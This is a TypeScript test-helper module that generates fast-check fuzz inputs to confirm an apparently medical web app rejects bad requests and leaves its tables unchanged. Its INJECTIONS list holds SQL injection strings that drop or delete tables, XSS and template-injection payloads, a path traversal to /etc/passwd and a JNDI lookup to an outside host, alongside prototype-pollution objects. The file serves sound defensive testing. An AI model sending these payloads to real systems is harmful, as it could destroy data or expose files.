/**
 * Building blocks for the bad-input property tests (issue 9): hostile values, "valid object with
 * something broken" payloads, and a checksum of every table to prove that nothing was written.
 */
import fc from "fast-check";
import { sql } from "drizzle-orm";
import type { Db } from "@/db";

export const INJECTIONS = [
  "'; DROP TABLE users; --",
  "' OR '1'='1' --",
  "1); DELETE FROM audit_log; --",
  "'||pg_sleep(5)||'",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "../../../../etc/passwd",
  "${jndi:ldap://example.test/a}",
];

export const UNICODE_EDGES = [
  "\u0000",
  "a\u0000b",
  "\ud800", // lone high surrogate
  "x\udfffy", // lone low surrogate
  "\ufeff",
  "\u202e\u200d\u200b",
  "🧪".repeat(40),
  "Z\u0364\u0314\u0346\u0353a\u0308\u0356l\u036e\u0312g\u030c\u0317o\u0319",
  "\uffff\ufffe",
  "\r\n\t\v\f",
  "İıſ\u212a", // case-mapping oddities
];

const LONE_SURROGATES = fc.string({ unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 4 });

export const strangeString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES, "", " ", "null", "undefined", "NaN", "-1", "1e309", "0x10", "true", "2026-13-45T25:61", "x".repeat(70_000), "é".repeat(20_000)),
  fc.string({ unit: "binary", maxLength: 30 }),
  LONE_SURROGATES,
);

export const strangeNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(-1, 0, -0, 0.5, -(2 ** 31) - 1, 2 ** 31, 2 ** 32, 2 ** 53, Number.MAX_SAFE_INTEGER + 2, 1e308, -1e308, Number.MIN_VALUE),
);

const PROTO_POLLUTION = JSON.parse('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":true}}}') as Record<string, unknown>;

/** Any JSON value of the wrong kind: null, booleans, odd numbers and strings, arrays (also huge), objects. */
export const strangeValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  strangeNumber,
  strangeString,
  fc.array(fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxLength: 6 }),
  fc.constant(Array.from({ length: 5000 }, (_, i) => i)),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 4 }),
  fc.constant(PROTO_POLLUTION),
);

const EXTRA_KEYS = ["extra", "isAdmin", "role", "userId", "patientId", "__proto__", "constructor", "id", "status"];

/**
 * A valid object with some fields replaced by strange values, some removed, maybe an unknown
 * field added. May by chance still be valid: callers filter with their validator and count.
 */
export function mutated(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(valid);
  return fc
    .record({
      broken: fc.subarray(keys),
      removed: fc.subarray(keys),
      values: fc.array(strangeValue, { minLength: keys.length, maxLength: keys.length }),
      extra: fc.option(fc.tuple(fc.constantFrom(...EXTRA_KEYS), strangeValue), { nil: undefined }),
    })
    .map(({ broken, removed, values, extra }) => {
      const out: Record<string, unknown> = { ...valid };
      broken.forEach((k) => (out[k] = values[keys.indexOf(k)]));
      removed.forEach((k) => delete out[k]);
      if (extra) Object.defineProperty(out, extra[0], { value: extra[1], enumerable: true, writable: true, configurable: true });
      return out;
    });
}

/** Top-level payloads: a broken object most of the time, sometimes not an object at all. */
export function badJson(valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 4, arbitrary: mutated(valid) }, { weight: 1, arbitrary: strangeValue });
}

/** Bodies that are not JSON, or not sent as JSON, or too large: [body, content type]. */
export const RAW_BODIES: [string | Uint8Array, string | null][] = [
  ["{not json", "application/json"],
  ["", "application/json"],
  ["token=1&dose=50", "application/x-www-form-urlencoded"],
  ['{"a":1}', "text/plain"],
  ['{"a":1}', null],
  ["--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--", "multipart/form-data; boundary=x"],
  [new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]), "application/json"], // invalid UTF-8
  ["[".repeat(5000) + "]".repeat(5000), "application/json"], // deep nesting
  [JSON.stringify({ pad: "x".repeat(2 * 1024 * 1024) }), "application/json"], // 2 MB
  ["\u0000\u0000\u0000", "application/json"],
  ["null", "application/json"],
  ['"just a string"', "application/json"],
  ["12345678901234567890", "application/json"],
];

/** A form as an HTML form or React would post it; non-string values become files (a wrong type for every field). */
export function toFormData(fields: Record<string, unknown>): FormData {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) {
    for (const x of Array.isArray(v) ? v : [v]) {
      if (x === undefined) continue;
      if (typeof x === "string") form.append(k, x);
      else if (x === null) form.append(k, new Blob([new Uint8Array([0, 1, 2])]), "payload.bin");
      else form.append(k, typeof x === "object" ? new Blob([JSON.stringify(x)], { type: "application/json" }) : String(x));
    }
  }
  return form;
}

/** String form values: every field of a form is text, so "wrong types" are files, numbers as text, many values. */
export const strangeFormValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: strangeString },
  { weight: 1, arbitrary: strangeNumber.map(String) },
  { weight: 1, arbitrary: fc.constant(null) }, // a file upload
  { weight: 1, arbitrary: fc.array(strangeString, { minLength: 2, maxLength: 4 }) }, // the field repeated
  { weight: 1, arbitrary: fc.constant({ nested: ["object"] }) }, // a JSON file
);

export function mutatedForm(valid: Record<string, string | string[]>): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(valid);
  return fc
    .record({
      broken: fc.subarray(keys, { minLength: 1 }),
      removed: fc.subarray(keys),
      values: fc.array(strangeFormValue, { minLength: keys.length, maxLength: keys.length }),
      extra: fc.option(fc.tuple(fc.constantFrom(...EXTRA_KEYS, "$ACTION_ID_x", "1_0"), strangeFormValue), { nil: undefined }),
    })
    .map(({ broken, removed, values, extra }) => {
      const out: Record<string, unknown> = { ...valid };
      broken.forEach((k) => (out[k] = values[keys.indexOf(k)]));
      removed.forEach((k) => delete out[k]);
      if (extra) out[extra[0]] = extra[1];
      return out;
    });
}

type Rows<T> = { rows: T[] };

/** count:md5 of every row of every table in the public schema. */
export async function tableChecksums(db: Db): Promise<Record<string, string>> {
  const names = ((await db.execute(sql`select table_name as t from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' order by 1`)) as unknown as Rows<{ t: string }>).rows.map((r) => r.t);
  const out: Record<string, string> = {};
  for (const name of names) {
    const res = (await db.execute(
      sql.raw(`select count(*)::text as n, md5(coalesce(string_agg(x::text, '|' order by x::text), '')) as h from "${name.replace(/"/g, '""')}" x`),
    )) as unknown as Rows<{ n: string; h: string }>;
    out[name] = `${res.rows[0]!.n}:${res.rows[0]!.h}`;
  }
  return out;
}

export function changedTables(before: Record<string, string>, after: Record<string, string>): string[] {
  return [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((t) => before[t] !== after[t]).sort();
}
